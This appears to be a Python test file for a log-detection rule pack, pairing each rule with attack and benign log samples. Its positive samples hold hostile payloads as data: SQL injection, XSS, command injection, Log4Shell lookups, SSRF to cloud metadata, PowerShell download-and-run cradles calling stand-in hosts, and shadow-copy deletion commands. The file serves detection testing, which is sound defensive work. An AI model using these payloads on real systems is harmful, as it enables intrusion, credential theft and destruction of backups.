"""Mamori's own rule pack: labelled positive and negative samples for every rule."""

from __future__ import annotations

import datetime as dt

import pytest

from mamori.analysers.logs.analyser import load_pack
from mamori.analysers.logs.dedupe import Alert
from mamori.analysers.logs.events import LogEvent, LogSource
from mamori.analysers.logs.ingest.evtx import windows_event
from mamori.analysers.logs.ingest.interface import SourceInfo
from mamori.analysers.logs.ingest.webaccess import WebAccessFormat
from mamori.analysers.logs.sigma_load import BUILTIN_RULES, load_rules

T0 = dt.datetime(2026, 3, 3, 10, 0, tzinfo=dt.UTC)
IP = "203.0.113.9"


def linux(service: str, sec: int = 0, raw: str = "", **fields: str) -> LogEvent:
    fields.setdefault("host", "web1")
    fields.setdefault("program", service)
    when = T0 + dt.timedelta(seconds=sec)
    return LogEvent("auth.log", sec + 1, when, LogSource("linux", service), fields, raw)


def web(
    uri: str,
    method: str = "GET",
    agent: str = "Mozilla/5.0",
    referer: str = "-",
    status: str = "200",
    sec: int = 0,
    ip: str = IP,
) -> LogEvent:
    """An access-log event as the combined-format parser reads it."""
    raw = (f'{ip} - - [03/Mar/2026:10:00:00 +0000] "{method} {uri} HTTP/1.1" {status} 1 '
           f'"{referer}" "{agent}"')  # fmt: skip
    parse = WebAccessFormat().line_parser(SourceInfo("access.log", "access.log", T0))
    event = parse(raw, sec + 1)
    assert event is not None, raw
    return event._replace(ts=T0 + dt.timedelta(seconds=sec))


def win(channel: str, event_id: int, sec: int = 0, **fields: str) -> LogEvent:
    """A Windows event as the EVTX reader gives it (flat Sigma fields, channel logsource)."""
    fields = {"Channel": channel, "EventID": str(event_id), "Computer": "WKS-07", **fields}
    raw = " ".join(f"{k}={v}" for k, v in fields.items())
    when = T0 + dt.timedelta(seconds=sec)
    return windows_event("Security.evtx", sec + 1, when, fields, raw)


def proc(command: str, image: str = "C:\\Windows\\System32\\cmd.exe") -> LogEvent:
    return win("Microsoft-Windows-Sysmon/Operational", 1, Image=image, CommandLine=command)


def logon(sec: int, ok: bool, user: str = "administrator", ip: str = IP) -> LogEvent:
    if ok:
        return win("Security", 4624, sec, TargetUserName=user, IpAddress=ip, LogonType="10")
    return win("Security", 4625, sec, TargetUserName=user, IpAddress=ip, LogonType="3")


def ssh(sec: int, ok: bool, user: str = "root", ip: str = IP) -> LogEvent:
    verb = "Accepted" if ok else "Failed"
    return linux(
        "sshd", sec, f"{verb} password for {user} from {ip} port 4000 ssh2",
        user=user, src_ip=ip, src_port="4000", auth_method="password",
        outcome="success" if ok else "failure",
    )  # fmt: skip


def sudo(command: str, target: str = "root", raw_extra: str = "", ok: bool = True) -> LogEvent:
    raw = f"deploy : {raw_extra}TTY=pts/0 ; PWD=/home/deploy ; USER={target} ; COMMAND={command}"
    return linux("sudo", 0, raw, user="deploy", target_user=target, command=command,
                 outcome="success" if ok else "failure")  # fmt: skip


def fired(events: list[LogEvent]) -> set[str]:
    return {a.title for a in load_pack().detect(events)}


def alerts(events: list[LogEvent], title: str) -> list[Alert]:
    return [a for a in load_pack().detect(events) if a.title == title]


BRUTE = "SSH brute force from one source address"
SPRAY = "SSH password spraying from one source address"
AFTER = "SSH login succeeded after a brute force from the same address"
NEW_SOURCE = "SSH logins for one user from several source addresses"


def test_every_rule_in_the_pack_is_exercised_here() -> None:
    loaded = load_rules([BUILTIN_RULES])
    titles = {r.title for r in (*loaded.rules, *loaded.correlations)}
    tested = {BRUTE, SPRAY, AFTER, NEW_SOURCE, SCANNING, WEB_BRUTE, WIN_BRUTE, WIN_SPRAY,
              WIN_AFTER, WIN_NEW_ADMIN, *POSITIVE, *{t for t, _ in SILENT_BASES}}  # fmt: skip
    tested |= {"Local user account created", "User added to a privileged group",
               "New local user made privileged"}  # fmt: skip
    assert titles == tested


def test_ssh_brute_force() -> None:
    assert BRUTE in fired([ssh(s, False) for s in range(10)])
    assert BRUTE not in fired([ssh(s, False) for s in range(9)])
    assert BRUTE not in fired([ssh(s * 60, False) for s in range(10)])  # slow: 10 in 9 minutes


def test_password_spraying() -> None:
    assert SPRAY in fired([ssh(s, False, user=f"user{s}") for s in range(5)])
    assert SPRAY not in fired([ssh(s, False, user="root") for s in range(8)])


def test_success_after_many_failures() -> None:
    attack = [ssh(s, False) for s in range(12)] + [ssh(60, True)]
    assert AFTER in fired(attack)
    (alert,) = alerts(attack, AFTER)
    assert alert.group == (("src_ip", IP),)
    assert AFTER not in fired([ssh(0, False), ssh(1, False), ssh(60, True)])
    other_ip = [ssh(s, False) for s in range(12)] + [ssh(60, True, ip="198.51.100.4")]
    assert AFTER not in fired(other_ip)


def test_login_from_a_new_source() -> None:
    assert NEW_SOURCE in fired([ssh(0, True, "alice", "192.0.2.1"), ssh(60, True, "alice", IP)])
    assert NEW_SOURCE not in fired([ssh(0, True, "alice"), ssh(60, True, "alice")])
    assert NEW_SOURCE not in fired([ssh(0, True, "alice", "192.0.2.1"), ssh(60, True, "bob")])


POSITIVE: dict[str, list[LogEvent]] = {
    "sudo to a root shell": [sudo("/bin/bash"), sudo("/usr/bin/su -"), sudo("/usr/bin/zsh")],
    "sudo attempted by a user not in sudoers": [
        linux("sudo", raw="mallory : user NOT in sudoers ; TTY=pts/1 ; COMMAND=/bin/sh"),
    ],
    "Failed sudo authentication": [
        linux("sudo", raw="deploy : 3 incorrect password attempts ; TTY=pts/0 ; COMMAND=/bin/ls"),
        linux("sudo", raw="pam_unix(sudo:auth): authentication failure; logname=deploy uid=1000"),
    ],
    "SQL injection attempt in a web request": [
        web("/item?id=1%20UNION%20SELECT%20password%20FROM%20users"),
        web("/login?u=admin%27%20or%201=1--"),
        web("/p?id=1;waitfor%20delay%20'0:0:5'"),
        web("/item?id=1%2520UNION%2520ALL%2520SELECT%2520NULL"),  # double-encoded
        web("/item?id=1/**/UnIoN/**/SeLeCt/**/1,2"),  # comments for spaces
        web("/acct?no=7%27%20AND%20%27a%27=%27a"),
        web("/q?s=x%22%20OR%20%22x%22=%22x"),
    ],
    "Cross-site scripting attempt in a web request": [
        web("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        web("/search?q=%253Csvg%2520onload%253Dalert%25281%2529%253E"),  # double-encoded
        web("/p?x=%u003Cscript%u003E"),
        web("/p?x=<img%20src=x%20onerror=alert(1)>"),
        web("/", referer="<script>alert(1)</script>"),
    ],
    "Path traversal or file inclusion attempt in a web request": [
        web("/download?file=../../../../etc/passwd"),
        web("/static/..%2f..%2f..%2fwindows/win.ini"),
        web("/img?p=%2e%2e%2f%2e%2e%2fapp.conf"),
        web("/img?p=%252e%252e%252fsecret"),
        web("/f?p=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue"),
        web("/index.php?page=php://filter/convert.base64-encode/resource=config"),
    ],
    "OS command injection attempt in a web request": [
        web("/ping?host=127.0.0.1;cat%20/etc/passwd"),
        web("/ping?host=x%7Cid"),
        web("/dns?name=a$(whoami)"),
        web("/tools?ip=1.1.1.1%26%26/bin/sh%20-c%20id"),
    ],
    "JNDI lookup (Log4Shell) in a web request": [
        web("/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D"),
        web("/", agent="${jndi:ldap://203.0.113.9:1389/Exploit}"),
        web("/", agent="${${lower:j}ndi:${lower:l}dap://x/y}"),
    ],
    "Server-side request forgery attempt in a web request": [
        web("/fetch?url=http://169.254.169.254/latest/meta-data/iam/"),
        web("/img?src=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F"),
        web("/proxy?u=gopher://127.0.0.1:6379/_INFO"),
        web("/fetch?url=http://2852039166/"),
    ],
    "Windows event log cleared": [
        win("Security", 1102, SubjectUserName="intruder"),
        win("System", 104, Channel_cleared="System"),
    ],
    "Windows service installed that runs a shell or script host": [
        win("System", 7045, ServiceName="spoolfool", ImagePath="cmd.exe"),
        win("System", 7045, ServiceName="x", ImagePath="%COMSPEC% /c echo a > \\\\.\\pipe\\p"),
        win("System", 7045, ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe"),
        win("System", 7045, ServiceName="upd", ImagePath="C:\\Users\\bob\\AppData\\x.exe"),
    ],
    "Account added to a privileged Windows group": [
        win(
            "Security",
            4732,
            TargetUserName="Administrators",
            TargetSid="S-1-5-32-544",
            MemberSid="S-1-5-21-1-2-3-1109",
        ),
        win(
            "Security",
            4728,
            TargetUserName="Domain Admins",
            TargetSid="S-1-5-21-1-2-3-512",
            MemberSid="S-1-5-21-1-2-3-1109",
        ),
        win("Security", 4732, TargetUserName="Administratoren", TargetSid="S-1-5-32-544"),
    ],
    "Windows account created": [win("Security", 4720, TargetUserName="svc_x")],
    "PowerShell started with an encoded command or a download cradle": [
        proc("powershell.exe -nop -w hidden -enc SQBFAFgA", "C:\\x\\powershell.exe"),
        proc(
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ),
        proc("pwsh -Command iwr http://203.0.113.9/a.ps1 | iex", "C:\\pwsh\\pwsh.exe"),
    ],
    "Shadow copies or backups deleted": [
        proc("vssadmin.exe Delete Shadows /All /Quiet"),
        proc("wmic shadowcopy delete"),
        proc("wbadmin delete catalog -quiet"),
        proc("bcdedit /set {default} recoveryenabled No"),
    ],
    "LSASS memory read by an unexpected process": [
        win(
            "Microsoft-Windows-Sysmon/Operational",
            10,
            TargetImage="C:\\Windows\\system32\\lsass.exe",
            SourceImage="C:\\Users\\x\\mimikatz.exe",
            GrantedAccess="0x1010",
        ),
        win(
            "Microsoft-Windows-Sysmon/Operational",
            10,
            TargetImage="C:\\Windows\\system32\\lsass.exe",
            SourceImage="C:\\Windows\\System32\\rundll32.exe",
            GrantedAccess="0x1FFFFF",
        ),
    ],
    "Sensitive file probe in a web request": [
        web("/.env", status="404"),
        web("/.git/config"),
        web("/wp-config.php.bak"),
        web("/%2eaws/credentials"),
    ],
    "Web vulnerability scanner user agent": [
        web("/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
        web("/", agent="Mozilla/5.00 (Nikto/2.5.0)"),
        web("/", agent="Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
    ],
    "Web shell-like request": [
        web("/wp-content/uploads/2024/01/shell.php", method="POST"),
        web("/uploads/x.jsp?a=1", method="POST"),
        web("/index.php?cmd=cat%20/etc/shadow"),
    ],
}

NEGATIVE: dict[str, list[LogEvent]] = {
    "sudo to a root shell": [
        sudo("/usr/bin/apt update"),
        sudo("/bin/bash", target="postgres"),
        sudo("/usr/bin/systemctl restart nginx"),
    ],
    "sudo attempted by a user not in sudoers": [sudo("/usr/bin/id")],
    "Failed sudo authentication": [
        sudo("/usr/bin/id"),
        linux("sudo", raw="pam_unix(sudo:session): session opened for user root"),
    ],
    "SQL injection attempt in a web request": [
        web("/item?id=42&sort=price"),
        web("/blog/union-station-selected-photos"),
        web("/search?q=o%27reilly"),
        web("/search?q=rock%27n%27roll"),
        web("/help/select-an-account"),
        web("/blog/union-select-is-not-a-query"),
    ],
    "Cross-site scripting attempt in a web request": [
        web("/search?q=javascript+tutorial"),
        web("/docs/scripting-guide"),
        web("/", referer="https://example.org/page"),
    ],
    "Path traversal or file inclusion attempt in a web request": [
        web("/static/css/site.css"),
        web("/files/report.2024.pdf"),
        web("/a/b/c/d"),
        web("/docs/php-tutorial.html"),
    ],
    "OS command injection attempt in a web request": [
        web("/page;jsessionid=A1B2C3"),
        web("/search?q=cats%20%7C%20dogs"),
        web("/search?q=id%20card%20renewal"),
        web("/a?b=1&c=2&&d=3"),
    ],
    "JNDI lookup (Log4Shell) in a web request": [
        web("/search?q=jndi%20tutorial"),
        web("/price?fmt=$%7Bamount%7D"),
    ],
    "Server-side request forgery attempt in a web request": [
        web("/fetch?url=https://api.partner.example/rates"),
        web("/files/169.254.pdf"),
    ],
    "Windows event log cleared": [
        win("Security", 4624, TargetUserName="alice", LogonType="2"),
        win("Application", 104),
        win("System", 7036, param1="Windows Event Log"),
    ],
    "Windows service installed that runs a shell or script host": [
        win(
            "System",
            7045,
            ServiceName="MozillaMaintenance",
            ImagePath='"C:\\Program Files\\Mozilla\\maintenanceservice.exe"',
        ),
        win("System", 7036, ServiceName="x", ImagePath="cmd.exe"),
    ],
    "Account added to a privileged Windows group": [
        win("Security", 4732, TargetUserName="Users", TargetSid="S-1-5-32-545"),
        win("Security", 4733, TargetUserName="Administrators", TargetSid="S-1-5-32-544"),
    ],
    "Windows account created": [win("Security", 4722, TargetUserName="svc_x")],
    "PowerShell started with an encoded command or a download cradle": [
        proc("powershell.exe -File C:\\scripts\\backup.ps1", "C:\\x\\powershell.exe"),
        proc("cmd.exe /c echo -enc data"),
        proc("powershell.exe Get-ChildItem -Recurse", "C:\\x\\powershell.exe"),
    ],
    "Shadow copies or backups deleted": [
        proc("vssadmin list shadows"),
        proc("wbadmin start backup -backupTarget:E:"),
        proc("bcdedit /enum"),
    ],
    "LSASS memory read by an unexpected process": [
        win(
            "Microsoft-Windows-Sysmon/Operational",
            10,
            TargetImage="C:\\Windows\\system32\\lsass.exe",
            SourceImage="C:\\Windows\\system32\\svchost.exe",
            GrantedAccess="0x1410",
        ),
        win(
            "Microsoft-Windows-Sysmon/Operational",
            10,
            TargetImage="C:\\Windows\\system32\\lsass.exe",
            SourceImage="C:\\x\\agent.exe",
            GrantedAccess="0x1000",
        ),
        win(
            "Microsoft-Windows-Sysmon/Operational",
            10,
            TargetImage="C:\\Windows\\explorer.exe",
            SourceImage="C:\\x\\mimikatz.exe",
            GrantedAccess="0x1010",
        ),
    ],
    "Sensitive file probe in a web request": [
        web("/environment/overview"),
        web("/.well-known/security.txt"),
        web("/static/app.js"),
    ],
    "Web vulnerability scanner user agent": [
        web("/", agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
        web("/", agent="curl/8.5.0"),
    ],
    "Web shell-like request": [
        web("/wp-content/uploads/2024/01/photo.jpg"),
        web("/uploads/x.php", method="GET"),
        web("/contact.php", method="POST"),
        web("/search?command_line=help"),
    ],
}

SILENT_BASES = [
    ("SSH authentication failure", ssh(0, False)),
    ("SSH authentication success", ssh(0, True)),
    ("Web request answered 404", web("/missing", status="404")),
    ("Failed web login", web("/api/login", method="POST", status="401")),
    ("Windows logon failure", logon(0, False)),
    ("Windows logon success", logon(0, True)),
]

WIN_BRUTE = "Windows logon brute force from one address"
WIN_SPRAY = "Windows password spraying from one address"
WIN_AFTER = "Windows logon succeeded after a brute force from the same address"
WIN_NEW_ADMIN = "New Windows account made privileged"


def test_windows_logon_brute_force_spraying_and_success_after() -> None:
    assert WIN_BRUTE in fired([logon(s, False) for s in range(10)])
    assert WIN_BRUTE not in fired([logon(s, False) for s in range(9)])
    assert WIN_SPRAY in fired([logon(s, False, user=f"teller{s}") for s in range(5)])
    assert WIN_SPRAY not in fired([logon(s, False) for s in range(8)])
    attack = [logon(s, False) for s in range(12)] + [logon(90, True)]
    assert WIN_AFTER in fired(attack)
    assert WIN_AFTER not in fired([logon(0, False), logon(90, True)])
    assert WIN_AFTER not in fired([*attack[:-1], logon(90, True, ip="198.51.100.4")])


def test_new_windows_account_made_privileged() -> None:
    sid = "S-1-5-21-1-2-3-1109"
    made = win("Security", 4720, 0, TargetUserName="helpdesk2", TargetSid=sid)
    promoted = win("Security", 4732, 60, TargetUserName="Administrators",
                   TargetSid="S-1-5-32-544", MemberSid=sid)  # fmt: skip
    other = win("Security", 4732, 60, TargetUserName="Administrators",
                TargetSid="S-1-5-32-544", MemberSid="S-1-5-21-1-2-3-1200")  # fmt: skip
    assert WIN_NEW_ADMIN in fired([made, promoted])
    assert WIN_NEW_ADMIN not in fired([made, other])
    later = win("Security", 4720, 120, TargetUserName="helpdesk2", TargetSid=sid)
    assert WIN_NEW_ADMIN not in fired([promoted, later])  # promoted before it was created


def test_windows_rules_fire_on_real_attack_samples() -> None:
    """On the public EVTX attack samples the pack finds what each sample is named for."""
    from shared_data import SHARED_DATA  # noqa: PLC0415

    corpus = SHARED_DATA / "evtx-attack-samples"
    service = "Windows service installed that runs a shell or script host"
    expected = {
        "DE_1102_security_log_cleared.evtx": "Windows event log cleared",
        "DE_104_system_log_cleared.evtx": "Windows event log cleared",
        "LM_Remote_Service02_7045.evtx": service,
        "Network_Service_Guest_added_to_admins_4732.evtx": "Account added to a privileged "
        "Windows group",
        "babyshark_mimikatz_powershell.evtx": "LSASS memory read by an unexpected process",
    }
    files = [(str(next(corpus.rglob(name))), name) for name in expected]
    alerts, _ = load_pack().detect_files(files, workers=1)
    found = {(e.source, a.title) for a in alerts for e in a.events}
    assert set(expected.items()) <= found


SCANNING = "Web scanning burst from one address"
WEB_BRUTE = "Web login brute force from one address"


def test_web_scanning_burst() -> None:
    probes = [web(f"/admin{i}.php", status="404", sec=i) for i in range(40)]
    assert SCANNING in fired(probes)
    assert SCANNING not in fired(probes[:39])
    spread = [web(f"/p{i}", status="404", sec=i, ip=f"198.51.100.{i}") for i in range(40)]
    assert SCANNING not in fired(spread)
    found = [web(f"/p{i}", status="200", sec=i) for i in range(40)]
    assert SCANNING not in fired(found)


def test_web_login_brute_force() -> None:
    guesses = [web("/api/v1/login", method="POST", status="401", sec=i * 5) for i in range(10)]
    assert WEB_BRUTE in fired(guesses)
    assert WEB_BRUTE not in fired(guesses[:9])
    slow = [web("/login", method="POST", status="401", sec=i * 60) for i in range(10)]
    assert WEB_BRUTE not in fired(slow)  # ten in nine minutes
    ok = [web("/login", method="POST", status="200", sec=i) for i in range(10)]
    assert WEB_BRUTE not in fired(ok)
    pages = [web("/login", method="GET", status="403", sec=i) for i in range(10)]
    assert WEB_BRUTE not in fired(pages)


@pytest.mark.parametrize(("title", "sample"), [(t, e) for t, es in POSITIVE.items() for e in es])
def test_positive_samples_fire(title: str, sample: LogEvent) -> None:
    assert title in fired([sample])


@pytest.mark.parametrize(("title", "sample"), [(t, e) for t, es in NEGATIVE.items() for e in es])
def test_negative_samples_do_not_fire(title: str, sample: LogEvent) -> None:
    assert title not in fired([sample])


@pytest.mark.parametrize(("title", "sample"), SILENT_BASES)
def test_base_rules_of_correlations_match_but_are_not_reported(
    title: str, sample: LogEvent
) -> None:
    pack = load_pack()
    assert title in {m.rule.title for m in pack.engine.match([sample])}
    assert title not in fired([sample])


def test_new_privileged_user() -> None:
    made = linux("useradd", 0, "new user: name=eve", action="user-added", new_user="eve")
    promoted = linux("usermod", 30, "add 'eve' to group 'sudo'", action="group-member-added",
                     user="eve", group="sudo")  # fmt: skip
    harmless = linux("usermod", 30, "add 'eve' to group 'audio'", action="group-member-added",
                     user="eve", group="audio")  # fmt: skip
    someone_else = linux("usermod", 30, "add 'bob' to group 'wheel'",
                         action="group-member-added", user="bob", group="wheel")  # fmt: skip
    assert {"New local user made privileged", "User added to a privileged group",
            "Local user account created"} <= fired([made, promoted])  # fmt: skip
    assert "New local user made privileged" not in fired([made, harmless])
    assert "User added to a privileged group" not in fired([made, harmless])
    assert "New local user made privileged" not in fired([made, someone_else])
    assert "User added to a privileged group" in fired([someone_else])
